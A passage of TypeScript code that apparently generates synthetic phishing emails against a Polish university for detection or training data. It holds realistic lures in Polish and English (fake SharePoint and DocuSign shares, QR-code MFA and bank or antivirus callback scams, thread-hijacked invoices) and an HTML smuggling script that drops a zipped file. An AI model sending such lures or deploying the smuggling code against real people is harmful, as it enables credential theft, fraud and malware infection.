          ? [
              `**${sharer.name}** shared a file with you`,
              `${file}`,
              `"${pick(r, ['Please review before the meeting.', 'Confidential - for your eyes only.', 'Final version, please check your entry.'])}"`,
              { button: 'Open', href: link },
              'This document is protected. You will be asked to allow the Secure Document Viewer to open it.',
            ]
          : [
              `**${sharer.name}** udostępnił(a) Ci plik`,
              `${file}`,
              `„${pick(r, ['Proszę o zapoznanie się przed posiedzeniem.', 'Poufne - tylko do wiadomości.', 'Wersja ostateczna, proszę sprawdzić swoją pozycję.'])}”`,
              { button: 'Otwórz', href: link },
              'Dokument jest chroniony. Zostaniesz poproszony(-a) o zezwolenie aplikacji Secure Document Viewer na jego otwarcie.',
            ],
        footer: [
          'Microsoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
        ],
      },
      0.6,
      0,
    ),
    via: pick(r, ['vps', 'sendgrid'] as const),
    auth: 'lookalike',
  };
});

const sharepointShare = T('file-share-phish', 'sharepoint-share-credential-page', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const sharer = chance(r, 0.6) ? anyone(r) : { name: plName(r).full };
  const file = pick(r, FILES_PL);
  const hijacked = pick(r, HIJACKED);
  const how = r.below(3);
  const tenant = `${chars(r, 8)}-my.sharepoint.com`;
  const link = [
    compromisedSite(r, 'sharepoint'),
    `https://${tenant}/:b:/g/personal/${chars(r, 6)}_${chars(r, 6)}_onmicrosoft_com/E${token(r, 40)}?e=${token(r, 6)}`,
    freeHost(r, 'sharepoint-doc'),
  ][how];
  return {
    from:
      how === 1
        ? { name: `${sharer.name} (przez SharePoint)`, address: `no-reply@sharepointonline.com` }
        : { name: sharer.name, address: `${pick(r, ['biuro', 'kontakt', 'sekretariat'])}@${hijacked}` },
    returnPath: how === 1 ? `no-reply@sharepointonline.com` : undefined,
    to: [addr(to)],
    subject: `${sharer.name} udostępnił(a) Ci plik „${file}”`,
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        brand: { name: 'SharePoint', color: '#036c70' },
        blocks: [
          `**${sharer.name}** udostępnił(a) Ci plik`,
          file,
          pick(r, [
            'Proszę o pilne zapoznanie się.',
            'Dokument do akceptacji do końca dnia.',
            'W załączeniu dokument, o którym rozmawialiśmy.',
          ]),
          { button: 'Otwórz', href: link },
          'Ten link działa tylko dla bezpośrednich adresatów tej wiadomości.',
        ],
        footer: ['Oświadczenie o ochronie prywatności firmy Microsoft'],
      },
      0.6,
      0,
    ),
    via: 'm365',
    auth: 'pass',
  };
});

const docusignFake = T('esign-lure', 'docusign-contract-to-sign', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const sender = pick(r, [STAFF.hr, STAFF.chancellor, STAFF.procurement, STAFF.grants]);
  const doc = pick(r, [
    `Umowa o dzieło nr UD/${int(r, 100, 999)}/2026`,
    `Aneks do umowy o pracę - ${to.name}`,
    'Porozumienie o wynagrodzeniu 2026',
    `Umowa konsorcjum ${pick(r, ACRONYMS)}`,
  ]);
  const host = pick(r, [
    'docusign-esign.net',
    'docusgn.com',
    'docusign.com-envelope.net',
    'esign-docusign.app',
  ]);
  const link = pick(r, [
    `https://${host}/Signing/EmailStart.aspx?a=${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}&acct=${hex(r, 8)}`,
    freeHost(r, 'docusign-review'),
    compromisedSite(r, 'docs'),
  ]);
  const en = chance(r, 0.35);
  return {
    from: { name: `${sender.name} via DocuSign`, address: pick(r, [`dse@${host}`, `dse_na4@${host}`]) },
    replyTo: { name: sender.name, address: sender.email },
    to: [addr(to)],
    subject: en
      ? `Complete with DocuSign: ${doc}.pdf`
      : pick(r, [`Proszę o podpisanie: ${doc}`, `Dokumenty do podpisu: ${doc}`]),
    date,
    ...parts(
      r,
      {
        lang: en ? 'en' : 'pl',
        brand: { name: 'DocuSign', color: '#1e4ca1' },
        blocks: en
          ? [
              `${sender.name} sent you a document to review and sign.`,
              { button: 'REVIEW DOCUMENT', href: link, color: '#ffc820' },
              `**${sender.name}**\n${sender.email}`,
              'Please review and sign the document. Thank you.',
              {
                small: `Alternate Signing Method: visit DocuSign.com, click 'Access Documents', and enter the security code: ${hex(r, 32).toUpperCase()}`,
              },
            ]
          : [
              `${sender.name} wysłał(a) Ci dokument do przejrzenia i podpisania.`,
              { button: 'PRZEJRZYJ DOKUMENT', href: link, color: '#ffc820' },
              `**${sender.name}**\n${sender.email}`,
              'Proszę o zapoznanie się z dokumentem i jego podpisanie.',
              {
                small: `Alternatywna metoda podpisu: wejdź na DocuSign.com, wybierz „Access Documents” i wpisz kod zabezpieczający: ${hex(r, 32).toUpperCase()}`,
              },
            ],
        footer: ['Do not share this email. This message contains a secure link to DocuSign.'],
      },
      0.5,
      0,
    ),
    via: pick(r, ['vps', 'ses'] as const),
    auth: 'lookalike',
  };
});

const qrMfa = T('qr-code-mfa', 'mfa-reregistration-qr-image', async (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const look = pick(r, ORG_LOOKALIKES);
  const url = pick(r, [
    `https://logowanie.${look}/mfa/?e=${Buffer.from(to.email).toString('base64url')}`,
    `${freeHost(r, 'corp-mfa')}?u=${Buffer.from(to.email).toString('base64url')}`,
    `https://${chars(r, 6)}.${pick(r, ['sbs', 'cfd', 'click', 'top'])}/m/${token(r, 10)}`,
  ]);
  const jpeg = chance(r, 0.3);
  const img = jpeg ? await qrJpeg(url) : await qrPng(url);
  const cid = `qr${hex(r, 8)}@${look}`;
  const spoof = chance(r, 0.4);
  const deadline = plDate(addDays(date, pick(r, [1, 2, 3])));
  const en = chance(r, 0.25);
  return {
    from: spoof
      ? { name: 'Centrum Informatyczne', address: 'no-reply@corp.example' }
      : { name: 'Microsoft 365 - Centrum Informatyczne', address: `security@${look}` },
    returnPath: spoof ? `bounce@${pick(r, ['qmail-send.xyz', 'relay-notify.top'])}` : undefined,
    to: [addr(to)],
    subject: en
      ? `Action required: re-register Microsoft Authenticator by ${deadline}`
      : pick(r, [
          `Wymagana ponowna rejestracja MFA - do ${deadline}`,
          'Aktualizacja zabezpieczeń konta Microsoft 365',
          `${to.first}, Twoje uwierzytelnianie dwuskładnikowe wygasło`,
        ]),
    date,
    html: letter({
      lang: en ? 'en' : 'pl',
      blocks: en
        ? [
            `Hello ${to.first},`,
            `Following the update of our security policy, all staff must re-register their multi-factor authentication method by **${deadline}**.`,
            { img: `cid:${cid}`, alt: 'QR code', width: 180 },
            'Scan the QR code with your phone camera and follow the instructions. Accounts not re-registered will be locked.',
          ]
        : [
            `Dzień dobry ${to.first},`,
            `w związku z aktualizacją zasad bezpieczeństwa wszyscy pracownicy muszą ponownie zarejestrować metodę uwierzytelniania wieloskładnikowego do **${deadline}**.`,
            { img: `cid:${cid}`, alt: 'Kod QR', width: 180 },
            'Zeskanuj kod QR aparatem telefonu i postępuj zgodnie z instrukcjami. Konta bez ponownej rejestracji zostaną zablokowane.',
          ],
      footer: ['Centrum Informatyczne Uniwersytetu Wiślanego'],
    }).html,
    attachments: [
      { filename: jpeg ? 'qr.jpg' : 'qr.png', type: jpeg ? MIME.jpeg : MIME.png, content: img, cid },
    ],
    via: 'vps',
    auth: spoof ? 'spoof' : 'lookalike',
  };
});

const qrPdf = T('qr-code-pdf', 'salary-indexation-pdf-qr', async (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const look = pick(r, ORG_LOOKALIKES);
  const url = pick(r, [
    `https://kadry.${look}/wynagrodzenie?id=${token(r, 10)}`,
    `${freeHost(r, 'kadry-place')}#${Buffer.from(to.email).toString('base64')}`,
  ]);
  const pdf = onePagePdf(
    [
      `${ORG.name} - Dzial Plac`,
      'Informacja o waloryzacji wynagrodzenia od 1 stycznia 2026 r.',
      `Pracownik: ${ascii(to.name)}`,
      'Szczegoly zmiany oraz nowa stawka sa dostepne po zeskanowaniu kodu QR',
      'i zalogowaniu sie kontem uczelnianym. Potwierdzenie wymagane w ciagu 48 godzin.',
    ],
    { jpeg: await qrJpeg(url) },
  );
  const spoof = chance(r, 0.5);
  const file = pick(r, [
    `Waloryzacja_2026_${ascii(to.last)}.pdf`,
    'Informacja_o_wynagrodzeniu.pdf',
    `Zmiana_warunkow_wynagrodzenia_${digits(r, 4)}.pdf`,
  ]);
  return {
    from: spoof
      ? { name: 'Dział Płac', address: STAFF.payroll.email }
      : { name: 'Dział Płac UW', address: `place@${look}` },
    returnPath: spoof ? `${chars(r, 6)}@${pick(r, ['srv-mail.top', 'notify-hr.xyz'])}` : undefined,
    to: [addr(to)],
    subject: pick(r, [
      `Waloryzacja wynagrodzeń 2026 - ${to.name}`,
      'Informacja o podwyżce - do potwierdzenia',
      `${file}`,
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        style: 'outlook',
        greeting: 'Dzień dobry,',
        blocks: [
          `w załączeniu przesyłamy informację o zmianie wynagrodzenia. Prosimy o zapoznanie się z dokumentem i potwierdzenie do ${plDate(addDays(date, 2))}.`,
        ],
        closing: 'Pozdrawiamy',
        signature: ['Dział Płac', ORG.name],
      },
      0.3,
      0.4,
    ),
    attachments: [{ filename: file, type: MIME.pdf, content: pdf }],
    via: 'vps',
    auth: spoof ? 'spoof' : 'lookalike',
  };
});

const callbackAntivirus = T('callback-phishing', 'antivirus-renewal-call-to-cancel', (r) => {
  const date = mailDate(r);
  const to = someone(r);
  const [brand, product] = pick(r, [
    ['Norton', 'Norton 360 Deluxe'],
    ['McAfee', 'McAfee Total Protection'],
    ['Geek Squad', 'Geek Squad Tech Support'],
    ['PayPal', 'PayPal - Bitcoin purchase'],
    ['Avast', 'Avast Premium Security'],
  ] as const);
  const sender = chance(r, 0.5) ? intlName(r) : plName(r);
  const pl = chance(r, 0.55);
  const order = `${upper(r, 3)}${digits(r, 8)}`;
  const phone = pl
    ? pick(r, [
        `+48 22 ${digits(r, 3)} ${digits(r, 2)} ${digits(r, 2)}`,
        `+48 800 ${digits(r, 3)} ${digits(r, 3)}`,
      ])
    : `+1 (8${int(r, 0, 8)}${int(r, 0, 9)}) ${digits(r, 3)}-${digits(r, 4)}`;
  const price = pl ? pln(pick(r, [899, 1299, 1599.99, 2149])) : usd(pick(r, [299.99, 399.99, 499]));
  const lines = pl
    ? [
        `Dziękujemy za odnowienie subskrypcji ${product} (plan 3-letni, 5 urządzeń).`,
        {
          facts: [
            ['Numer zamówienia', order],
            ['Data', plDate(date)],
            ['Kwota', price],
            ['Metoda płatności', 'Karta / automatyczne odnowienie'],
          ],
        } as const,
        `Kwota zostanie pobrana z Twojego konta w ciągu 24 godzin. Jeśli nie autoryzowałeś(-aś) tej transakcji lub chcesz anulować subskrypcję i otrzymać zwrot, zadzwoń do działu rozliczeń: **${phone}** (pn-pt 8:00-20:00).`,
      ]
    : [
        `Thank you for renewing your ${product} subscription (3-year plan, 5 devices).`,
        {
          facts: [
            ['Order number', order],
            ['Date', longDate(date, 'en')],
            ['Amount', price],
            ['Payment method', 'Auto-renewal'],
          ],
        } as const,
        `The amount will be charged within 24 hours. If you did not authorise this transaction or wish to cancel and get a refund, call our billing department: **${phone}**.`,
      ];
  const withPdf = chance(r, 0.4);
  return {
    from: {
      name: pick(r, [brand, `${brand} Billing`, sender.full]),
      address: freemail(r, sender, ['gmail.com', 'outlook.com']),
    },
    to: [to],
    subject: pl
      ? pick(r, [
          `Potwierdzenie zamówienia nr ${order}`,
          `Twoja subskrypcja ${product} została odnowiona`,
          `Faktura #${order}`,
        ])
      : pick(r, [
          `Order confirmation #${order}`,
          `Your ${product} subscription has been renewed`,
          `Invoice ${order}`,
        ]),
    date,
    ...parts(
      r,
      {
        lang: pl ? 'pl' : 'en',
        greeting: pl ? 'Drogi Kliencie,' : 'Dear Customer,',
        blocks: lines,
        closing: pl ? 'Pozdrawiamy,' : 'Regards,',
        signature: [`${brand} ${pl ? 'Dział Rozliczeń' : 'Billing Team'}`],
      },
      0.3,
      0.3,
    ),
    attachments: withPdf
      ? [
          {
            filename: `${pl ? 'Faktura' : 'Invoice'}_${order}.pdf`,
            type: MIME.pdf,
            content: onePagePdf([
              `${product}`,
              `${pl ? 'Faktura' : 'Invoice'} ${order}`,
              `${pl ? 'Kwota' : 'Amount'}: ${ascii(price)}`,
              `${pl ? 'Anulowanie i zwrot' : 'Cancellation and refund'}: ${phone}`,
            ]),
          },
        ]
      : undefined,
  };
});

const BANKS = [
  {
    key: 'pko',
    name: 'PKO Bank Polski',
    app: 'IKO',
    site: 'iPKO',
    domain: 'pkobp.pl',
    color: '#003574',
    looks: ['pkobp-bezpieczenstwo.pl', 'ipko-weryfikacja.com', 'pko-bp.com.pl'],
  },
  {
    key: 'pekao',
    name: 'Bank Pekao S.A.',
    app: 'PeoPay',
    site: 'Pekao24',
    domain: 'pekao.com.pl',
    color: '#c8102e',
    looks: ['pekao24-logowanie.pl', 'pekao-weryfikacja.com', 'pekao.com.pl-secure.info'],
  },
  {
    key: 'mbank',
    name: 'mBank',
    app: 'aplikacja mBank',
    site: 'serwisu transakcyjnego mBanku',
    domain: 'mbank.pl',
    color: '#e4002b',
    looks: ['mbank-bezpieczenstwo.pl', 'mbank.pl-logowanie.com', 'online-mbank.info'],
  },
] as const;

const bankCallback = T('bank-callback', 'bank-fraud-alert-call-consultant', (r) => {
  const date = mailDate(r);
  const to = someone(r);
  const b = pick(r, BANKS);
  const spoof = chance(r, 0.5);
  const caseNo = `${upper(r, 2)}-${digits(r, 6)}`;
  const phone = pick(r, [
    plLandline(r, '22'),
    `+48 ${pick(r, ['800', '801'])} ${digits(r, 3)} ${digits(r, 3)}`,
  ]);
  return {
    from: {
      name: b.name,
      address: spoof ? `powiadomienia@${b.domain}` : `bezpieczenstwo@${pick(r, b.looks)}`,
    },
    returnPath: spoof ? `${chars(r, 8)}@${pick(r, ['bulk-sender.top', 'mx-relay.xyz'])}` : undefined,
    to: [to],
    subject: pick(r, [
      'Podejrzana transakcja na Twoim rachunku',
      `Pilne: próba logowania z nowego urządzenia - sprawa ${caseNo}`,
      'Blokada przelewu - wymagany kontakt z bankiem',
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        brand: { name: b.name, color: b.color },
        greeting: 'Szanowny Kliencie,',
        blocks: [
          `nasz system bezpieczeństwa wykrył logowanie do ${b.site} z nowego urządzenia (${pick(r, ['iPhone 15, Lagos', 'Windows 11, Amsterdam', 'Samsung Galaxy, Kijów'])}) oraz zlecenie przelewu na kwotę **${pln(amount(r, 2400, 9800))}**. Transakcja została wstrzymana.`,
          `Jeśli to nie Ty, niezwłocznie skontaktuj się z Działem Bezpieczeństwa pod numerem **${phone}** i podaj numer sprawy **${caseNo}**. Konsultant pomoże zabezpieczyć Twoje środki.`,
          'Dla Twojego bezpieczeństwa nie klikaj w linki w wiadomościach i nie podawaj nikomu kodów BLIK.',
        ],
        closing: 'Z poważaniem,',
        signature: [`Departament Bezpieczeństwa ${b.name}`],
      },
      0.4,
      0.2,
    ),
    via: 'vps',
    auth: spoof ? 'spoof' : 'lookalike',
  };
});

const SUPPLIERS = [
  {
    name: 'Chemland Dystrybucja S.A.',
    domain: 'chemland-dystrybucja.pl',
    look: 'chemland-dystrybucja.com.pl',
    item: 'odczynników',
  },
  {
    name: 'LabSerwis Sp. z o.o.',
    domain: 'labserwis-krakow.pl',
    look: 'labserwis-krakow.com',
    item: 'serwisu spektrometru',
  },
  {
    name: 'Biurex Sp. z o.o.',
    domain: 'biurex-biuro.pl',
    look: 'biurex-biuro.com.pl',
    item: 'materiałów biurowych',
  },
  {
    name: 'Komputery Plus Sp. z o.o.',
    domain: 'komputeryplus-b2b.pl',
    look: 'komputeryplus-b2b.com',
    item: 'laptopów dla wydziału',
  },
];

const threadHijackInvoice = T('thread-hijack', 'supplier-thread-invoice-link', (r) => {
  const date = mailDate(r);
  const sup = pick(r, SUPPLIERS);
  const ours = pick(r, [STAFF.procurement, STAFF.chem, STAFF.accounts, STAFF.eco]);
  const contact = plName(r);
  const zp = `ZP/${int(r, 10, 290)}/2026`;
  const hijacked = chance(r, 0.5);
  const domain = hijacked ? sup.domain : sup.look;
  const link = pick(r, [
    compromisedSite(r, 'faktura'),
    freeHost(r, 'onedrive-faktura'),
    `https://${chars(r, 8)}-my.sharepoint.com/:b:/g/personal/${chars(r, 8)}/E${token(r, 30)}`,
  ]);
  const earlier = addDays(date, -int(r, 2, 12));
  const subj = `Zamówienie nr ${zp} - dostawa ${sup.item}`;
  const quoted = quoteText(
    pick(r, ['outlook-pl', 'gmail-pl', 'thunderbird-pl'] as const),
    { name: ours.name, email: ours.email },
    { name: contact.full, email: `${handle(contact)}@${sup.domain}` },
    earlier,
    subj,
    `Dzień dobry,\n\npotwierdzam odbiór dostawy ${sup.item} do ${zp}. Proszę o przesłanie faktury na adres ${STAFF.accounts.email}, z numerem zamówienia w tytule.\n\nPozdrawiam\n${ours.name}\n${ours.dept}`,
  );
  const text = `Dzień dobry,\n\nw nawiązaniu do poniższej korespondencji przesyłam fakturę za zrealizowaną dostawę. Ze względu na rozmiar załączników dokumenty udostępniamy przez OneDrive:\n\nFV_${int(r, 100, 999)}_2026.pdf: ${link}\n\nProszę o potwierdzenie otrzymania.\n\nPozdrawiam\n${contact.full}\n${sup.name}\n\n${quoted}`;
  return {
    from: { name: contact.full, address: `${handle(contact)}@${domain}` },
    to: [addr(ours)],
    subject: `RE: ${subj}`,
    date,
    text,
    headers: [
      ['In-Reply-To', `<${hex(r, 16)}@corp.example>`],
      ['References', `<${hex(r, 16)}@corp.example>`],
      ['Thread-Topic', subj],
    ],
    via: hijacked ? 'm365' : 'vps',
    auth: hijacked ? 'pass' : 'lookalike',
  };
});

const protectedArchive = T('protected-archive', 'reply-with-passworded-zip', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const sender = plName(r);
  const hijacked = pick(r, HIJACKED);
  const topic = pick(r, [
    {
      subj: 'dokumenty do rozliczenia delegacji',
      file: 'Rozliczenie_delegacji',
      ask: 'dokumentów do rozliczenia delegacji',
    },
    {
      subj: 'Umowa konsorcjum - poprawki',
      file: 'Umowa_konsorcjum_poprawki',
      ask: 'umowy konsorcjum z poprawkami',
    },
    { subj: 'Lista uczestników szkolenia', file: 'Lista_uczestnikow', ask: 'listy uczestników szkolenia' },
    { subj: 'faktura proforma', file: 'Proforma', ask: 'faktury proforma' },
  ]);
  const pw = pick(r, [digits(r, 4), `${upper(r, 3)}${digits(r, 3)}`, '2026', `Doc${digits(r, 3)}`]);
  const inner = `${topic.file}_${digits(r, 4)}.${pick(r, ['exe', 'pdf.exe', 'scr', 'js', 'vbs', 'bat'])}`;
  const zip = protectedZip(inner, int(r, 1, 1_000_000));
  const earlier = addDays(date, -int(r, 1, 6));
  const quoted = quoteText(
    'gmail-pl',
    { name: to.name, email: to.email },
    { name: sender.full, email: `${handle(sender)}@${hijacked}` },
    earlier,
    topic.subj,
    `Dzień dobry,\n\nproszę o przesłanie ${topic.ask}.\n\nPozdrawiam\n${to.name}`,
  );
  return {
    from: { name: sender.full, address: `${handle(sender)}@${hijacked}` },
    to: [addr(to)],
    subject: `Re: ${topic.subj}`,
    date,
    text: `Dzień dobry,\n\nw załączeniu dokumenty, o które ${fem(to.first) ? 'Pani prosiła' : 'Pan prosił'}. Ze względu na dane osobowe archiwum jest zabezpieczone hasłem.\n\nHasło: ${pw}\n\nPozdrawiam\n${sender.full}\n\n${quoted}`,
    attachments: [{ filename: `${topic.file}.zip`, type: MIME.zip, content: zip }],
    headers: [['In-Reply-To', `<${hex(r, 20)}@corp.example>`]],
    via: pick(r, ['vps', 'webmail-pl'] as const),
    auth: 'pass',
  };
});

const htmlSmuggling = T('html-smuggling', 'remittance-html-blob-download', (r) => {
  const date = mailDate(r);
  const to = pick(r, [STAFF.accounts, STAFF.bursar, STAFF.procurement, STAFF.grants2]);
  const company = pick(r, [
    'Nordic Lab Supplies OÜ',
    'Hansa Research Consulting GmbH',
    'Westbrook Scientific Ltd',
    'Delta Conference Services BV',
  ]);
  const ref = `${upper(r, 2)}${digits(r, 7)}`;
  const payload = zipOf(`Remittance_${ref}.js`).toString('base64');
  const page = [
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Remittance Advice</title></head>',
    '<body style="font-family:Segoe UI,Arial"><p>Loading document, please wait...</p>',
    '<script>',
    `var d="${payload}";`,
    'var b=atob(d),a=new Uint8Array(b.length);for(var i=0;i<b.length;i++){a[i]=b.charCodeAt(i);}',
    `var f=new Blob([a],{type:"application/octet-stream"});var u=URL.createObjectURL(f);var l=document.createElement("a");l.href=u;l.download="Remittance_${ref}.zip";document.body.appendChild(l);l.click();`,
    '</script></body></html>',
  ].join('\n');
  const clerk = intlName(r);
  return {
    from: {
      name: `${company} - Accounts Payable`,
      address: `ap@${pick(r, ['nordiclab-supplies.com', 'hansa-consulting-group.de', 'westbrook-scientific.co.uk', 'delta-conferences.eu'])}`,
    },
    to: [addr(to)],
    subject: pick(r, [
      `Remittance Advice - Payment Ref ${ref}`,
      `Payment confirmation for invoice ${ref}`,
      `Swift copy - ${ref}`,
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'en',
        greeting: 'Hello,',
        blocks: [
          `Please find attached the remittance advice for our payment of ${eur(amount(r, 1200, 28_000))} (ref. ${ref}).`,
          'Open the attached document to view the payment details. Kindly confirm receipt once the funds reach your account.',
        ],
        closing: 'Kind regards,',
        signature: [clerk.full, 'Accounts Payable', company],
      },
      0.2,
      0.4,
    ),
    attachments: [{ filename: `Remittance_${ref}.html`, type: MIME.html, content: page }],
    via: pick(r, ['vps', 'm365'] as const),
    auth: pick(r, ['lookalike', 'pass', 'forwarded'] as const),
  };
});

const diskImageLure = T('disk-image', 'purchase-order-iso', (r) => {
  const date = mailDate(r);
  const to = pick(r, [STAFF.procurement, STAFF.accounts, STAFF.rectorOffice, STAFF.intl]);
  const en = chance(r, 0.5);
  const po = `${pick(r, ['PO', 'RFQ', 'ZAM'])}-${digits(r, 6)}`;
  const sender = en ? intlName(r) : plName(r);
  const domain = pick(r, [
    'eurotrade-solutions.com',
    'global-lab-equipment.net',
    'promed-hurt.pl',
    'techimport-sp.com.pl',
  ]);
  const ext = pick(r, ['iso', 'img']);
  return {
    from: { name: sender.full, address: `${handle(sender)}@${domain}` },
    to: [addr(to)],
    subject: en
      ? pick(r, [
          `Purchase Order ${po}`,
          `Request for Quotation ${po} - urgent`,
          `New order ${po} / delivery schedule`,
        ])
      : pick(r, [`Zamówienie ${po}`, `Zapytanie ofertowe ${po} - pilne`, `Oferta cenowa ${po}`]),
    date,
    text: en
      ? `Dear Sir/Madam,\n\nPlease find attached our ${po.startsWith('RFQ') ? 'request for quotation' : 'purchase order'} with the specification and delivery schedule. Kindly confirm availability and prices by ${longDate(addDays(date, 3), 'en')}.\n\nBest regards,\n${sender.full}\nProcurement Department`
      : `Dzień dobry,\n\nw załączeniu przesyłam ${po.startsWith('RFQ') ? 'zapytanie ofertowe' : 'zamówienie'} wraz ze specyfikacją i harmonogramem dostaw. Proszę o potwierdzenie dostępności i cen do ${plDate(addDays(date, 3))}.\n\nZ poważaniem\n${sender.full}\nDział Zakupów`,
    attachments: [
      { filename: `${po}.${ext}`, type: ext === 'iso' ? MIME.iso : MIME.octet, content: diskImage() },
    ],
    via: 'vps',
    auth: pick(r, ['lookalike', 'pass'] as const),
  };
});

const lnkArchive = T('lnk-archive', 'correction-invoice-zip-lnk', (r) => {
  const date = mailDate(r);
  const to = pick(r, [STAFF.accounts, STAFF.bursar, STAFF.procurement]);
  const seller = pick(r, SELLERS);
  const n = `FK/${int(r, 10, 400)}/${isoDay(date).slice(5, 7)}/2026`;
  const base = `Faktura_korygujaca_${n.replace(/\//g, '_')}`;
  const sender = plName(r);
  const hijacked = pick(r, HIJACKED);
  return {
    from: { name: `${sender.full} | ${seller.name}`, address: `${handle(sender)}@${hijacked}` },
    to: [addr(to)],
    subject: pick(r, [
      `Faktura korygująca ${n}`,
      `Wezwanie do zapłaty - korekta ${n}`,
      `Korekta faktury - ${seller.name}`,
    ]),
    date,
    text: `Dzień dobry,\n\nw załączeniu przesyłamy fakturę korygującą ${n} wraz z notą odsetkową. Prosimy o uregulowanie różnicy w terminie 7 dni.\n\nZ poważaniem\n${sender.full}\nDział Księgowości\n${seller.name}`,
    attachments: [{ filename: `${base}.zip`, type: MIME.zip, content: zipOf(`${base}.pdf.lnk`) }],
    via: pick(r, ['vps', 'webmail-pl'] as const),
    auth: 'pass',
  };
});

const scriptArchive = T('script-archive', 'conference-invoice-zip-script', (r) => {
  const date = mailDate(r);
  const to = researcher(r);
  const c = pick(r, FAKE_CONFERENCES);
  const ref = `${c.abbr}-${digits(r, 5)}`;
  const what = pick(r, [
    {
      subj: `Registration invoice ${ref}`,
      file: `Invoice_${ref}`,
      body: 'Please find attached the invoice and the payment receipt for your registration.',
    },
    {
      subj: `Visa invitation letter - ${c.abbr} 2026`,
      file: 'Invitation_Letter',
      body: 'As requested, please find attached your official invitation letter for the visa application.',
    },
    {
      subj: `Certificate of presentation - ${c.abbr} 2026`,
      file: 'Certificate',
      body: 'Thank you for your participation. Your certificate of presentation is attached.',
    },
  ]);
  const inner = `${what.file}.${pick(r, ['js', 'wsf', 'vbs', 'hta', 'pdf.js'])}`;
  return {
    from: { name: `${c.abbr} 2026 Secretariat`, address: `secretariat@${c.abbr.toLowerCase()}-2026.org` },
    to: [addr(to)],
    subject: what.subj,
    date,
    ...parts(
      r,
      {
        lang: 'en',
        greeting: `Dear ${drPrefix(to)} ${to.last},`,
        blocks: [what.body, 'The file is compressed because of its size.'],
        closing: 'Best regards,',
        signature: [`${c.abbr} 2026 Secretariat`, c.city],
      },
      0.2,
      0.5,
    ),
    attachments: [{ filename: `${what.file}.zip`, type: MIME.zip, content: zipOf(inner) }],
    via: pick(r, ['vps', 'sendgrid'] as const),
    auth: 'lookalike',
  };
});

const macroWorkbookLure = T('macro-workbook', 'payroll-correction-xlsm', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const month = monthPl(addDays(date, -15));
  const kind = r.below(3);
  const file = [
    `Lista_plac_korekta_${ascii(month)}.xlsm`,
    `Harmonogram_zajec_semestr_letni_2026.xlsm`,
    `Podzial_srodkow_badawczych_2026.xlsm`,
  ][kind];
  const look = pick(r, ORG_LOOKALIKES);
  const spoof = chance(r, 0.4);
  const from = [
    spoof
      ? { name: 'Dział Płac', address: STAFF.payroll.email }
      : { name: 'Dział Płac', address: `place@${look}` },
    spoof
      ? { name: 'Dziekanat', address: 'dziekanat.wfis@corp.example' }
      : { name: 'Dziekanat WFiIS', address: `dziekanat@${look}` },
    spoof
      ? { name: STAFF.bursar.name, address: STAFF.bursar.email }
      : { name: STAFF.bursar.name, address: `${handle(STAFF.bursar)}@${look}` },
  ][kind];
  return {
    from,
    returnPath: spoof ? `${chars(r, 7)}@${pick(r, ['mailsrv.top', 'office-relay.xyz'])}` : undefined,
    to: [addr(to)],
    subject: [
      `Korekta listy płac za ${month}`,
      'Harmonogram zajęć - semestr letni 2026 (wersja ostateczna)',
      'Podział środków na badania 2026 - proszę o weryfikację',
    ][kind],
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        style: 'outlook',
        greeting: 'Dzień dobry,',
        blocks: [
          [
            'w załączeniu korekta listy płac. Prosimy o sprawdzenie swojej pozycji do końca tygodnia.',
            'w załączeniu ostateczna wersja harmonogramu zajęć. Prosimy o sprawdzenie przydziału godzin.',
            'przesyłam zestawienie podziału środków. Proszę o weryfikację kwot przypisanych do zespołu.',
          ][kind],
          'Plik jest zabezpieczony - po otwarciu proszę kliknąć „Włącz edycję”, a następnie „Włącz zawartość”, aby wyświetlić dane.',
        ],
        closing: 'Pozdrawiam',
      },
      0.2,
      0.5,
    ),
    attachments: [{ filename: file, type: MIME.xlsm, content: macroWorkbook() }],
    via: 'vps',
    auth: spoof ? 'spoof' : 'lookalike',
  };
});

const macroDocumentLure = T('macro-document', 'manuscript-review-doc', (r) => {
  const date = mailDate(r);
  const to = researcher(r);
  const j = pick(r, EM_JOURNALS);
  const ed = intlName(r);
  const id = `${j.code}-${digits(r, 4)}-R${int(r, 1, 2)}`;
  return {
    from: { name: `Dr. ${ed.full}`, address: freemail(r, ed, ['gmail.com', 'outlook.com', 'yahoo.com']) },
    to: [addr(to)],
    subject: pick(r, [
      `Review request: manuscript ${id}`,
      `Revised manuscript ${id} - your comments`,
      `${j.name}: manuscript for your review`,
    ]),
    date,
    text: `Dear ${drPrefix(to)} ${to.last},\n\nI am guest-editing a special issue of ${j.name} and would be grateful for your opinion on the attached manuscript (${id}), which is close to your work on ${pick(r, RESEARCH_TOPICS)}.\n\nThe file contains the authors' tracked changes; please click "Enable Content" if the text does not display correctly.\n\nWould you be able to send your comments within two weeks?\n\nWith best wishes,\n${ed.full}\nGuest Editor, ${j.name}`,
    attachments: [{ filename: `Manuscript_${id}.doc`, type: MIME.doc, content: legacyMacroDocument() }],
  };
});

const onenoteLure = T('onenote-lure', 'grant-agreement-onenote', (r) => {
  const date = mailDate(r);
  const to = pick(r, [STAFF.grants, STAFF.grants2, ...[STAFF.chem, STAFF.cs, STAFF.eco]]);
  const n = `${digits(r, 3)}/2026`;
  const sender = plName(r);
  const hijacked = pick(r, HIJACKED);
  return {
    from: { name: sender.full, address: `${handle(sender)}@${hijacked}` },
    to: [addr(to)],
    subject: pick(r, [
      `Umowa grantowa ${n} - wersja do akceptacji`,
      'Dokumentacja projektu - notatnik OneNote',
      `Porozumienie partnerskie ${n}`,
    ]),
    date,
    text: `Dzień dobry,\n\nprzesyłam notatnik OneNote z umową ${n} i uwagami partnerów. Aby wyświetlić dokument, proszę kliknąć dwukrotnie przycisk „Otwórz” w notatniku.\n\nPozdrawiam\n${sender.full}`,
    attachments: [
      {
        filename: `Umowa_${n.replace('/', '_')}.one`,
        type: MIME.one,
